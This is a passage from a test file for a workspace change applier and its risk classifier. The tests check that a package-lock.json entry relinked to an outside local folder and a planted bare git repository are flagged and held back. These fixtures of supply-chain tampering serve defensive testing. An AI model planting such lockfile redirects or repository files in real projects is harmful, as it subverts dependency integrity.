    for (const change of changeSet.files) if (change.path !== 'src/index.js') assert.ok(change.risk.length, `${change.path} is risky`);
    const selected = selectChanges(changeSet.files);
    assert.deepEqual(selected.chosen.map((change) => change.path), ['src/index.js']);
    assert.deepEqual(selected.held.map((entry) => entry.path).sort(), redTeam);

    const root = hostWorkspace(fixture);
    const report = applyChanges({ root, changeSet, content: fixture.content, blobs: fixture.blobs, journal: fixture.journal });
    assert.deepEqual(report.written.map((entry) => `${entry.action} ${entry.path}`), ['write src/index.js']);
    assert.deepEqual(report.held.map((entry) => entry.path).sort(), redTeam);
    assert.deepEqual(snapshotHost(root), expectedHost({ ...base, 'src/index.js': now['src/index.js'] }));
  });
});

describe('riskClassifier: npm lockfile local sources (issue 13 §3)', () => {
  const classify = riskClassifier();
  test('a package-lock.json entry newly linked to a local folder is risky', () => {
    const lock = (entry: Record<string, unknown>) => JSON.stringify({ lockfileVersion: 3, packages: { '': {}, 'node_modules/left': entry } });
    const before = lock({ version: '1.0.0', resolved: 'https://registry.npmjs.org/left/-/left-1.0.0.tgz', integrity: 'sha512-a' });
    assert.match(classify(modified('package-lock.json', before, lock({ resolved: '../../outside/left', link: true }))).join(), /new source: file:/);
  });
  test('a planted bare repository (HEAD beside objects/ and refs/) is held from a blanket apply', () => {
    const risk = riskClassifier();
    for (const rel of ['vendor/x/HEAD', 'HEAD']) assert.ok(risk({ change: { path: rel, status: 'added', after: { kind: 'file', mode: 0o644, size: 20 } } }).some((reason) => /git HEAD file/.test(reason)), rel);
    assert.deepEqual(risk({ change: { path: 'vendor/x/objects/ab/cdef', status: 'added', after: { kind: 'file', mode: 0o644, size: 20 } } }).filter((reason) => /HEAD/.test(reason)), []);
  });
});
